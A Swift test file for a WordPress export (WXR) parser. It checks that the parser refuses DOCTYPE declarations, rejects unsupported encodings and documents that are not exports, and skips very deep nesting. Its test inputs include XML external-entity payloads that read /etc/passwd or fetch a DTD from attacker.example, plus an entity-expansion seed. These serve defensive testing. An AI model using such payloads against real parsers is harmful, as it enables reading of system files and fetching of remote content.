import DecantCore
import DecantWXR
import Testing

/// What isn't read at all, and why.
struct RefusalTests {
  private func code(_ text: String) -> DecantError.Code? {
    do {
      _ = try Fixture.read(text)
      return nil
    } catch {
      return error.code
    }
  }

  private func export(documentType: String, _ item: String = Fixture.item(1)) -> String {
    Fixture.export(item).replacing("<rss ", with: documentType + "\n<rss ", maxReplacements: 1)
  }

  @Test(arguments: [
    "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;\">]>",
    "<!DOCTYPE rss [<!ENTITY % p \"x\">]>",
    "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE rss SYSTEM \"http://attacker.example/x.dtd\">",
    "<!DOCTYPE rss [<!ATTLIST item x CDATA \"y\">]>",
    "<!DOCTYPE rss [<!ENTITY a \"b\">", "<!DOCTYPE rss [<!ENTITY a \"&b;\">]>",
  ])
  func declarationsAreRefused(documentType: String) {
    #expect(code(export(documentType: documentType)) == .refusedSource)
  }

  @Test func entitiesOfOneCharacterAreResolved() throws {
    let type = "<!DOCTYPE rss [ <!ENTITY sun \"&#x2600;\"> <!ENTITY lock '<'> ]>"
    let item = Fixture.item(1, "<wp:post_name>a&sun;b&lock;c</wp:post_name>")
    let (blog, diagnostics) = try Fixture.read(export(documentType: type, item))
    #expect(blog.entries[0].slug == "a☀b<c")
    #expect(diagnostics.map { $0.split(separator: " ")[1] } == ["wxr/document-type"])
  }

  @Test(arguments: [
    "", " \n", "<!DOCTYPE html><html></html>", "{\"version\": 1}",
    "INSERT INTO wp_posts VALUES (1)",
    "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"></feed>", "just text",
    "<rss version=\"2.0\"><channel><title>News</title><item><title>x</title></item></channel></rss>",
  ])
  func otherFilesAreNoExports(text: String) { #expect(code(text) == .malformedSource) }

  @Test func anExportThatEndsInItsHeadIsNone() {
    #expect(code(Fixture.head()) == .malformedSource)
    #expect(code(Fixture.export()) == nil)
  }

  @Test(arguments: ["Shift_JIS", "GBK", "UTF-7", "UTF-32", String(repeating: "x", count: 700)])
  func otherEncodingsAreRefusedByName(label: String) {
    let text = Fixture.export().replacing("UTF-8", with: label)
    do {
      _ = try Fixture.read(text)
      Issue.record("\(label) was read")
    } catch {
      #expect(error.code == .refusedSource)
      #expect(error.message.contains(label.prefix(20)))
      #expect(error.message.utf8.count < 400)
    }
  }

  @Test func aWrongLabelIsReported() throws {
    let text = Fixture.export(Fixture.item(1)).replacing("UTF-8", with: "UTF-16")
    let (blog, diagnostics) = try Fixture.read(text)
    #expect(blog.entries.count == 1)
    #expect(diagnostics == ["1:1 wxr/wrong-encoding-label"])
  }

  @Test func deepElementsAreSkipped() throws {
    let deep =
      String(repeating: "<x:y>", count: 100_000) + String(repeating: "</x:y>", count: 100_000)
    let (blog, diagnostics) = try Fixture.read(
      Fixture.export(Fixture.item(1, deep), Fixture.item(2)))
    #expect(blog.entries.map(\.id.rawValue) == ["1", "2"])
    #expect(diagnostics.contains { $0.hasSuffix("wxr/too-deep") })
  }

  @Test func exportsAreRecognizedByTheirContent() {
    let recognize = BlogFormat.wxr.recognize
    let export = Array(Fixture.head().utf8)
    #expect(recognize(.init(name: "notes.txt", bytes: export)) == .certain)
    let warned = Array("Warning: x in /y.php\n".utf8) + export
    #expect(recognize(.init(name: "", bytes: warned)) == .certain)
    #expect(recognize(.init(name: "a.xml", bytes: Array("<feed/>".utf8))) == .none)
    #expect(recognize(.init(name: "a.md", bytes: Array("an <rss wp:> tag".utf8))) == .none)
    let wide: [UInt8] = [0xFF, 0xFE] + export.flatMap { [$0, 0] }
    #expect(recognize(.init(name: "", bytes: wide)) == .certain)
  }
}
